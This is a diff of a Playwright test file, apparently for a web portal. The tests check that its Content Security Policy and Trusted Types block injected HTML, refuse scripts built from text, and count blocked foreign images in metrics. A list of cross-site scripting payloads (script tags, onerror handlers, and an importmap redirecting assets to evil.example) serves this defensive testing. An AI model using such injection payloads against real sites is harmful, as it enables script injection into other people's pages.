@@ -9,16 +9,13 @@ declare global {
 }
 
 test.use({
-  // What the attacks below provoke.
   expectedComplaints: [
     /violates the following Content Security Policy|TrustedTypePolicy named 'invasor'|requires 'Trusted|evil\.example|preload/,
   ],
 })
 
-/** What React does not render begins there. */
 const AFTER_CONTENT = '<script id="boot"'
 
-/** Opens a page into whose HTML somebody has brought this, as if rich text had let it through. */
 async function openWith(page: Page, markup: string) {
   await page.route(
     '**/quem-somos',
@@ -34,7 +31,6 @@ async function openWith(page: Page, markup: string) {
   await alive(page)
 }
 
-/** What of another host is asked for. */
 async function watchEvil(page: Page) {
   const asked: string[] = []
   await page.route('https://evil.example/**', (route) => {
@@ -47,7 +43,6 @@ async function watchEvil(page: Page) {
 const invaded = (page: Page) => page.evaluate(() => window.invaded ?? [])
 const INVADE = '(window.invaded??=[]).push(1)'
 
-/** Attacks injected into a page. The last two change the base of the others' addresses. */
 const BROUGHT = [
   `<script>${INVADE}</script>
   <img src="data:," onerror="${INVADE}">
@@ -61,7 +56,7 @@ const BROUGHT = [
   `<script type="importmap">{"imports":{"/assets/":"https://evil.example/"}}</script>`,
 ]
 
-test('nothing that came into the HTML runs', { tag: MAIN }, async ({ page }) => {
+test('injected HTML runs nothing', { tag: MAIN }, async ({ page }) => {
   const asked = await watchEvil(page)
   await page.route('**/invasor.js', (route) => route.fulfill({ contentType: 'text/javascript', body: INVADE }))
   for (const markup of BROUGHT) {
@@ -72,7 +67,7 @@ test('nothing that came into the HTML runs', { tag: MAIN }, async ({ page }) => 
   }
 })
 
-test('a text that code makes markup of loses what would run, and keeps the rest', async ({ page }) => {
+test('markup from a script loses active content and keeps the rest', async ({ page }) => {
   await page.goto('/quem-somos')
   await alive(page)
   const html = await page.evaluate((code) => {
@@ -87,11 +82,11 @@ test('a text that code makes markup of loses what would run, and keeps the rest'
   expect(await invaded(page)).toEqual([])
 })
 
-test('a text that code makes a script of is refused', async ({ page }) => {
+test('script creation from text is refused', async ({ page }) => {
   await page.goto('/quem-somos')
   await alive(page)
   const outcomes = await page.evaluate(async (code) => {
-    // Before, the code would be that of this test, which may do anything.
+    // Without this delay the code would run with the privileges of the test.
     await new Promise((resolve) => setTimeout(resolve))
     const attempts: Record<string, () => unknown> = {
       src: () => {
@@ -119,7 +114,7 @@ test('a text that code makes a script of is refused', async ({ page }) => {
   expect(await invaded(page)).toEqual([])
 })
 
-test('a picture of a host that is not named is not asked for, and that is counted in the metrics', async ({ page }) => {
+test('a picture of a foreign host is not requested and counts in the metrics', async ({ page }) => {
   const counted = async () => {
     const metrics = await (await page.request.get('/metricas')).text()
     const line = metrics.split('\n').find((line) => /^portal_csp_violations_total.*"img-src".*"foreign"/.test(line))
